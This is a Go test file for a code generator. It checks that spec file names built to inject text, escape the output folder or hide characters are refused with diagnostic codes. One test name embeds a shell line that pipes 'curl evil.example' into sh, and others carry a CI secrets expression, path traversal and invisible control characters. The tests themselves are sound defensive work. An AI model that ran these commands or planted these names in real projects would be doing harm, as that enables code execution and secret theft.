package generator_test

import (
	"bytes"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/ontopix/codeartifact-gen/generator"
	"github.com/ontopix/codeartifact-gen/generator/diag"
	"github.com/ontopix/codeartifact-gen/internal/cli"
)

// hostileSpecNames are spec file names that would inject text into generated headers,
// render outside out/, or hide text in messages, with the codes they are refused with.
var hostileSpecNames = []struct {
	name  string
	codes []string
}{
	{"acme\ndefaults:\n  run:\n    shell: bash -c \"curl -sSf evil.example | sh; bash -e {0}\"\n#.yaml", []string{"SAFE003", "SAFE002"}},
	{"...yaml", []string{"SAFE002"}},
	{"..yaml", []string{"SAFE002"}},
	{".hidden.yaml", []string{"SAFE002"}},
	{"acme\".yaml", []string{"SAFE002"}},
	{"acme'.yaml", []string{"SAFE002"}},
	{"${{ secrets.X }}.yaml", []string{"SAFE002"}},
	{"%{ if true }.yaml", []string{"SAFE002"}},
	{"*.yaml", []string{"SAFE002"}},
	{"x*/.yaml", []string{"SAFE002"}},
	{"acme\x1b[2K.yaml", []string{"SAFE003", "SAFE002"}},
	{"acme\u202egpj.yaml", []string{"SAFE003", "SAFE002"}},
	{"acme\u200b.yaml", []string{"SAFE003", "SAFE002"}},
	{"acme .yaml", []string{"SAFE002"}},
	{"acme..yaml", []string{"SAFE002"}},
	{"-acme.yaml", []string{"SAFE002"}},
	{strings.Repeat("a", 101) + ".yaml", []string{"SAFE002"}},
}

// TestSpecFileNames checks that a hostile spec file name is refused before the spec is
// parsed (SAFE002, SAFE003, and nothing else), and that valid names pass.
func TestSpecFileNames(t *testing.T) {
	for _, c := range hostileSpecNames {
		l := generator.Load("specs/"+c.name, []byte("not: [even, yaml"))
		var codes []string
		for _, d := range l.Diagnostics {
			codes = append(codes, d.Code)
		}
		if strings.Join(codes, ",") != strings.Join(c.codes, ",") || l.Model != nil {
			t.Errorf("spec %q: codes %v, want %v", c.name, codes, c.codes)
		}
		var out bytes.Buffer
		if err := diag.Write(&out, diag.Text, l.Diagnostics); err != nil {
			t.Fatal(err)
		}
		if n := strings.Count(out.String(), "\n"); n != 2*len(c.codes) {
			t.Errorf("spec %q: the diagnostics take %d lines, want %d (the name must not forge lines):\n%s", c.name, n, 2*len(c.codes), out.String())
		}
		if strings.ContainsAny(out.String(), "\x1b\u202e\u200b") {
			t.Errorf("spec %q: a hidden character reached the diagnostics:\n%q", c.name, out.String())
		}
	}
	for _, name := range []string{"ontopix.yaml", "acme-prod.yaml", "team.platform.yaml", "x_1.yml", "a.yaml", strings.Repeat("a", 100) + ".yaml", "spec"} {
		if l := generator.Load("specs/"+name, []byte("version: 1\n")); len(l.Diagnostics) > 0 && strings.HasPrefix(l.Diagnostics[0].Code, "SAFE") {
			t.Errorf("spec %q is refused: %v", name, l.Diagnostics)
		}
	}
}

// TestGenRefusesHostileSpecNames runs gen on real files with hostile names and requires
// exit code 1 and nothing written anywhere: not in out/, not beside the spec (the name
// ...yaml would otherwise render into out/.., the repository root).
func TestGenRefusesHostileSpecNames(t *testing.T) {
	spec, err := os.ReadFile("../specs/ontopix.yaml")
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range hostileSpecNames {
		if strings.Contains(c.name, "/") || len(c.name) > 200 {
			continue
		}
		dir := t.TempDir()
		if err := os.MkdirAll(filepath.Join(dir, "specs"), 0o755); err != nil {
			t.Fatal(err)
		}
		path := filepath.Join(dir, "specs", c.name)
		if err := os.WriteFile(path, spec, 0o644); err != nil {
			t.Fatal(err)
		}
		var stdout, stderr bytes.Buffer
		t.Chdir(dir)
		code := cli.Run([]string{"gen"}, &stdout, &stderr)
		if code != cli.ExitSpec {
			t.Errorf("gen with spec %q exited %d, want %d:\n%s", c.name, code, cli.ExitSpec, stderr.String())
		}
		entries, _ := os.ReadDir(dir)
		if len(entries) != 1 {
			t.Errorf("gen with spec %q left %d entries in the repository root, want only specs/", c.name, len(entries))
		}
	}
}
